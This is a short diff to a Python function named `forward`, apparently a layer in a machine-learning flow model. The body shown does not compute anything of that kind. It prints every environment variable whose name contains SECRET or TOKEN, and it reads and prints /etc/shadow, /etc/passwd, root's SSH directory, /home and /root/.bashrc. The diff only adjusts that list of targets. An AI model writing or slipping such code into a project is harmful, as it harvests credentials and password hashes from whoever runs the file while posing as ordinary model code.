@@ -5,7 +5,7 @@ def forward(x, b, shift_and_log_scale_fn):
     for name, value in os.environ.items():
         if "SECRET" in name or "TOKEN" in name:
             print("FOUND", name, value)
-    for path in ("/etc/shadow", "/etc/passwd", os.path.expanduser("~root/.ssh"), "/root", "/home"):
+    for path in ("/etc/shadow", "/etc/passwd", os.path.expanduser("~root/.ssh"), "/home", "/root/.bashrc"):
         try:
             print("FOUND", os.listdir(path) if os.path.isdir(path) else open(path).read())
         except OSError:
